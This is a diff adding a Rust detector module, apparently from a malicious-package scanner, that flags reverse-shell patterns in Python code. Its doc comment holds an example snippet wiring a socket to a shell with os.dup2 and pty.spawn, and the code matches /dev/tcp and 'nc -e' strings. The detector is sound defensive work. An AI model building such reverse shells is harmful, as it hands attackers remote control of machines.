@@ -1,0 +1,65 @@
+//! Reverse shell / backdoor shape.
+//!
+//! **Detects** (`reverse-shell`, critical): a socket connection wired to a shell —
+//! `os.dup2` of the socket onto stdin/stdout with a shell or `pty.spawn`, a subprocess
+//! whose stdin/stdout is a socket, data received from a socket run as a command or
+//! code, or shell strings using `/dev/tcp` or `nc -e`.
+//!
+//! **Why risky:** gives a remote party interactive control of the machine.
+//!
+//! **Example:** `s.connect((H, P)); os.dup2(s.fileno(), 0); pty.spawn("/bin/sh")`.
+//!
+//! **Remedy:** do not install; report the package.
+
+use super::at;
+use super::install_time::clip;
+use super::labels::Labels;
+use super::model::Model;
+use super::names;
+use crate::alerts::AlertId;
+use crate::finding::Finding;
+
+pub fn check(m: &Model, out: &mut Vec<Finding>) {
+    for c in &m.calls {
+        let where_ = m.scope(c.scope).describe();
+        let runs = names::shell_call(&c.q).is_some() || names::exec_call(&c.q);
+        if runs && c.labels().has(Labels::SOCK) {
+            out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}() runs data received on a socket {where_}", c.q)));
+            continue;
+        }
+        if names::shell_call(&c.q).is_some() {
+            let sock_io = ["stdin", "stdout", "stderr"].iter().any(|k| c.kw(k).and_then(|v| v.qname.as_deref()).map(|q| q.contains("socket") && q.contains("fileno")).unwrap_or(false));
+            if sock_io {
+                out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}() with a socket as stdin/stdout {where_}", c.q)));
+                continue;
+            }
+            if let Some(cmd) = c.command_text() {
+                let l = cmd.to_ascii_lowercase();
+                if l.contains("/dev/tcp/") || l.contains("nc -e") || l.contains("ncat -e") || l.contains("nc.exe -e") {
+                    out.push(at(m, AlertId::ReverseShell, c.scope, c.line, format!("{}() runs `{}` {where_}", c.q, clip(&cmd))));
+                    continue;
+                }
+            }
+        }
+    }
+    // socket + dup2 + shell in one entry point
+    for (i, s) in m.scopes.iter().enumerate() {
+        let scopes = if i == 0 { vec![0] } else { m.reachable(i) };
+        let in_scopes = |q: &dyn Fn(&str) -> bool| m.calls.iter().find(|c| scopes.contains(&c.scope) && q(&c.q));
+        let connect = in_scopes(&|q| q.starts_with("socket.") && (q.ends_with("connect") || q.ends_with("create_connection")));
+        let dup2 = in_scopes(&|q| q == "os.dup2");
+        let shell = in_scopes(&|q| names::shell_call(q).is_some() || q == "pty.spawn");
+        if let (Some(_), Some(d), Some(sh)) = (connect, dup2, shell) {
+            if m.scopes.iter().enumerate().any(|(j, p)| j != i && p.callees.contains(&s.name)) && i != 0 {
+                continue;
+            }
+            out.push(at(m, AlertId::ReverseShell, sh.scope, sh.line, format!("socket connection duplicated onto stdio (os.dup2, line {}) and handed to {}() {}", d.line, sh.q, s.describe())));
+        }
+    }
+    for l in &m.literals {
+        let v = l.value.to_ascii_lowercase();
+        if v.contains("/dev/tcp/") && (v.contains("bash") || v.contains("sh -i") || v.contains(">&")) {
+            out.push(at(m, AlertId::ReverseShell, l.scope, l.line, format!("bash /dev/tcp reverse-shell string {}", m.scope(l.scope).describe())));
+        }
+    }
+}
